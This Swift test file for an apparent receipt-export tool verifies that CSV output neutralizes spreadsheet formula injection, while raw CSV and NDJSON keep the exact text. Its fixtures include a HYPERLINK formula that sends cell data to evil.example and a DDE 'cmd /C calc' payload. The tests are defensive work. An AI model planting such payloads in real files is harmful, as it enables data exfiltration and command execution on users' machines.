import Foundation
import ReceiptSynth
import ReceiptTestSupport
import Testing

/// CSV output is safe to open in a spreadsheet: every string cell a spreadsheet would run as a formula, whatever
/// the table and wherever its text came from (a record id, a field of a rejected receipt, a product id), is written
/// with a leading apostrophe; numbers stay numbers; `--csv-raw`, NDJSON and Parquet keep the exact text.
@Suite struct CSVFormulaTests {
    /// The texts spreadsheets run, given as record ids.
    static let ids = [#"=HYPERLINK("http://x")"#, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1,2", "plain"]
    /// The bundle id of a receipt signed with the test CA that fails the `--bundle-id` policy.
    static let hostileBundle = #"=HYPERLINK("http://evil.example/?"&A1)"#
    /// The product id of a valid receipt's purchase (transactions and purchases tables).
    static let hostileProduct = "-1+cmd|' /C calc'!A0"

    static func receipt(bundle: String, product: String?) -> [UInt8] {
        var b = PayloadBuilder()
        b.utf8(0, "Production")
        b.utf8(2, bundle)
        b.utf8(3, "1.0")
        b.integer(1, 1_234_567)
        b.date(12, 1_600_000_000_000)
        b.utf8(19, "1.0")
        if let product {
            var p = PayloadBuilder()
            p.integer(1701, 1)
            p.utf8(1702, product)
            p.utf8(1703, "1000000001")
            p.date(1704, 1_600_000_000_000)
            b.inApp(p)
        }
        return Hostile.signed(b.encode())
    }

    /// One NDJSON line: the receipt under `receipt-data`, the id under `ref`.
    static func line(_ receipt: [UInt8], ref: String) throws -> String {
        let object: [String: Any] = ["ref": ref, "receipt-data": Data(receipt).base64EncodedString()]
        return String(
            decoding: try JSONSerialization.data(withJSONObject: object, options: [.sortedKeys]), as: UTF8.self)
    }

    /// The input: a valid receipt per id, then one rejected by policy, then one whose purchase has a hostile
    /// product id.
    static func input(in dir: URL) throws -> URL {
        var lines: [String] = []
        for id in ids { lines.append(try line(receipt(bundle: "com.example.hostile", product: nil), ref: id)) }
        lines.append(try line(receipt(bundle: hostileBundle, product: nil), ref: "policy"))
        lines.append(try line(receipt(bundle: "com.example.hostile", product: hostileProduct), ref: "product"))
        let url = dir.appendingPathComponent("in.ndjson")
        try Data((lines.joined(separator: "\n") + "\n").utf8).write(to: url)
        return url
    }

    static func export(_ input: URL, _ out: URL, _ extra: [String]) throws -> (Int32, Data, String) {
        try export(input, out: out.path, extra)
    }

    static func export(_ input: URL, out: String, _ extra: [String]) throws -> (Int32, Data, String) {
        try runTool(
            [
                "export", input.path, "--out", out, "--trust-anchor", Hostile.rootPEM, "--id-field", "ref",
                "--bundle-id", "com.example.hostile", "--quiet", "--threads", "2",
            ] + extra)
    }

    static func column(_ rows: [[String: String]], _ name: String) -> [String] { rows.map { $0[name] ?? "<none>" } }

    @Test func everyStringCellOfEveryTableIsNeutralizedAndNumbersStayNumbers() throws {
        let dir = JWSExportTests.tempDir()
        defer { try? FileManager.default.removeItem(at: dir) }
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        let input = try Self.input(in: dir)
        let out = dir.appendingPathComponent("csv")
        let (status, _, err) = try Self.export(input, out, ["--format", "csv"])
        #expect(status == 0, "\(err)")

        let receipts = try JWSExportTests.csv(out.appendingPathComponent("receipts.csv"))
        #expect(receipts.count == Self.ids.count + 2)
        let wantIDs = Self.ids.map { $0 == "plain" ? $0 : "'" + $0 } + ["policy", "product"]
        #expect(Self.column(receipts, "record_id") == wantIDs)
        // The receipt that failed the policy is rejected, and its decoded bundle id is neutralized too.
        let policy = try #require(receipts.first { $0["record_id"] == "policy" })
        #expect(policy["status"] != "0")
        #expect(policy["bundle_id"] == "'" + Self.hostileBundle)
        // Numbers are the writer's own: line and status are plain integers.
        #expect(Self.column(receipts, "line") == (1...(Self.ids.count + 2)).map(String.init))
        #expect(receipts.allSatisfy { Int($0["status"] ?? "") != nil })

        let transactions = try JWSExportTests.csv(out.appendingPathComponent("transactions.csv"))
        #expect(Self.column(transactions, "product_id") == ["'" + Self.hostileProduct])
        let purchases = try JWSExportTests.csv(out.appendingPathComponent("purchases.csv"))
        #expect(Self.column(purchases, "product_id") == ["'" + Self.hostileProduct])
        #expect(Self.column(purchases, "transaction_id") == ["1000000001"])

        // The same rows streamed to standard output.
        let (streamed, stdout, streamErr) = try Self.export(input, out: "-", ["--format", "csv"])
        #expect(streamed == 0, "\(streamErr)")
        #expect(stdout == (try Data(contentsOf: out.appendingPathComponent("receipts.csv"))))
    }

    @Test func csvRawAndNDJSONKeepTheExactText() throws {
        let dir = JWSExportTests.tempDir()
        defer { try? FileManager.default.removeItem(at: dir) }
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        let input = try Self.input(in: dir)
        let raw = dir.appendingPathComponent("raw")
        let (status, _, err) = try Self.export(input, raw, ["--format", "csv", "--csv-raw"])
        #expect(status == 0, "\(err)")
        let receipts = try JWSExportTests.csv(raw.appendingPathComponent("receipts.csv"))
        #expect(Self.column(receipts, "record_id") == Self.ids + ["policy", "product"])
        #expect(receipts.first { $0["record_id"] == "policy" }?["bundle_id"] == Self.hostileBundle)
        let purchases = try JWSExportTests.csv(raw.appendingPathComponent("purchases.csv"))
        #expect(Self.column(purchases, "product_id") == [Self.hostileProduct])
        // Byte for byte: the first id's cell is the RFC 4180 quoting of the text, nothing more.
        let text = try Data(contentsOf: raw.appendingPathComponent("receipts.csv"))
        #expect(String(decoding: text, as: UTF8.self).contains(#","=HYPERLINK(""http://x"")","#))

        let ndjson = dir.appendingPathComponent("ndjson")
        #expect(try Self.export(input, ndjson, ["--format", "ndjson"]).0 == 0)
        let objects = try Data(contentsOf: ndjson.appendingPathComponent("receipts.ndjson")).split(separator: 0x0A)
            .map { try #require(try JSONSerialization.jsonObject(with: Data($0)) as? [String: Any]) }
        #expect(objects.map { $0["record_id"] as? String ?? "" } == Self.ids + ["policy", "product"])
    }

    @Test func csvRawIsAUsageErrorWithoutCSV() throws {
        let dir = JWSExportTests.tempDir()
        defer { try? FileManager.default.removeItem(at: dir) }
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        let input = try Self.input(in: dir)
        for format in ["parquet", "ndjson"] {
            let (status, _, err) = try Self.export(
                input, dir.appendingPathComponent(format), ["--format", format, "--csv-raw"])
            #expect(status == 2)
            #expect(err.contains("--csv-raw") && err.contains("--format csv"), "\(err)")
        }
    }
}
